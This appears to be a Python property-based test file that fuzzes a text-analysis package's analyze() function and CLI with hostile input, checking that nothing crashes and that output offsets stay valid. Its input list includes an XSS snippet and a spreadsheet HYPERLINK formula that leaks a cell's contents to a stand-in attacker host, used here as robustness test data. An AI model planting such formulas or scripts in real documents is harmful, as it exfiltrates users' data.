"""Property tests: hostile text never crashes ``analyze()`` or the CLI, and every span
slices the text.

The strategy mixes article-like pieces with the inputs that broke real tools: lone
surrogates, NUL characters anywhere, every line-ending convention and mixes of them,
``$...$`` (mathtext), HTML fragments, spreadsheet formulas, zero-width and right-to-left
characters, arbitrary Unicode, and long runs: hundreds of digits (more than a float
holds) and thousands of one punctuation mark (which spaCy's tokenizer splits in time
growing with the square of their length). The rule: the only exception is the package's own
:class:`~analysis.errors.InputError`, and only for text that is refused by a stated rule.
"""

import json
import warnings
from datetime import timedelta

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analysis import analyze
from analysis.cli import main
from analysis.errors import InputError
from analysis.reading.textnorm import normalize

HOSTILE = [
    "Headline", "font change", "Read more: x", "\u201cQuoted,\u201d he said.", "\u00a0", "\u2014",
    "The minister said the plan would work.", '"', "\u2019s", "12,000", "\r\n", "\r", "\t", "\ufeff",
    "Officials declined to comment.", "\U0001f600", "e\u0301", "\u200b", "\u200f", "\u202e", "\u2066",
    "\x00", "\ud83d", "\udc00",  # NUL and lone surrogates: refused, never a crash
    "The firm, $$x^2$$ Holdings, said sales rose.", "$5 and $6", "$\\frac{1}{0}$",
    "<s #>ed with p><p>e m'aco\u00b2nsi\u0149der", "<script>alert(1)</script>", "<p>para</p>",
    '=HYPERLINK("http://evil.example/?leak="&A2,"Read the source")', "@SUM(A1)", "+1", "-x",
]  # fmt: skip
PIECES = st.one_of(st.text(max_size=80), st.sampled_from(HOSTILE))
SEPARATORS = st.sampled_from(["\n\n", "\n", "\r\r", "\r\n\r\n", "\r", " "])
# "-" alone means standard input (documented); it is not article text.
ARTICLES = (
    st.lists(st.tuples(PIECES, SEPARATORS), max_size=12).map(lambda parts: "".join(p + s for p, s in parts))
    | st.text(max_size=300)
).filter(lambda text: text != "-")


def refusable(text: str) -> bool:
    """Text a stated rule refuses: nothing in it, NUL characters, lone surrogates, or a
    one-line string naming a file that does not exist."""
    empty = not normalize(text.replace("\x00", " ")).strip()
    surrogate = any("\ud800" <= c <= "\udfff" for c in text)
    pathlike = "\n" not in text and text.strip().lower().endswith((".txt", ".text", ".html", ".htm"))
    return empty or "\x00" in text or surrogate or pathlike


def assert_spans_slice(data: dict, text: str) -> None:
    """Every start/end pair of every table row indexes the text, and its ``text`` is that slice."""
    for name, rows in data.items():
        if not isinstance(rows, list):
            continue
        for row in rows:
            if isinstance(row, dict) and isinstance(row.get("start"), int) and isinstance(row.get("end"), int):
                assert 0 <= row["start"] <= row["end"] <= len(text), (name, row)
                if isinstance(row.get("text"), str) and name != "findings":
                    assert text[row["start"] : row["end"]] == row["text"], (name, row)


def analysed_or_refused(text: str, nlp):
    """The analysis of ``text``, or None when a stated rule refuses it (any other
    exception fails the test)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            return analyze(text, nlp=nlp)
        except InputError:
            assert refusable(text), text
            return None


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ARTICLES)
def test_analyze_never_crashes_and_offsets_stay_valid(nlp, text):
    result = analysed_or_refused(text, nlp)
    if result is None:
        return
    assert result.check() == []
    assert len(result.paragraphs) >= 1
    assert result.paragraphs["role"].iloc[0] == "headline"


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(ARTICLES)
def test_the_cli_answers_hostile_files_with_tables_or_one_line(nlp, tmp_path_factory, capsys, text):
    """A file of any bytes: JSON tables whose spans slice the text, or exit 2 with one line."""
    path = tmp_path_factory.mktemp("hostile") / "article.txt"
    path.write_bytes(text.encode("utf-8", "surrogatepass"))  # lone surrogates become bytes that are not UTF-8
    capsys.readouterr()
    code = main(["tables", str(path), "--allow-non-english"])
    out, err = capsys.readouterr()
    assert code in (0, 2), err
    if code == 2:
        assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
        return
    data = json.loads(out)
    assert_spans_slice(data, data["text"])


#: Long runs that once broke or stalled a run: digits past a float's range, and thousands
#: of punctuation marks (a run of 40,000 "=" took five minutes in the tokenizer).
LONG_RUNS = st.one_of(
    st.builds(lambda n, d: d * n, st.integers(300, 2_000), st.sampled_from("19")),
    st.builds(lambda n, c: c * n, st.integers(5_000, 20_000), st.sampled_from(['=', '"', "(", "*", "_", "=(", "\u20ac", "#"])),
)
RUN_ARTICLES = st.tuples(st.lists(PIECES, max_size=4), LONG_RUNS, st.sampled_from(["", " people", "%", " said critics.", "\n\n"])).map(
    lambda parts: "Headline\n\nThe minister said the plan would work. " + " ".join(parts[0]) + " " + parts[1] + parts[2]
)


# A deadline far above the second or so such an article takes: a guard against a run
# whose cost grows with its square (minutes), not a measure of speed.
@settings(max_examples=12, deadline=timedelta(seconds=60), suppress_health_check=[HealthCheck.too_slow])
@given(RUN_ARTICLES)
def test_long_digit_and_punctuation_runs_analyse_in_bounded_time(nlp, text):
    result = analysed_or_refused(text, nlp)
    if result is None:
        return
    assert result.check() == []
    assert not result.numbers["value"].isin([float("inf"), float("-inf")]).any()
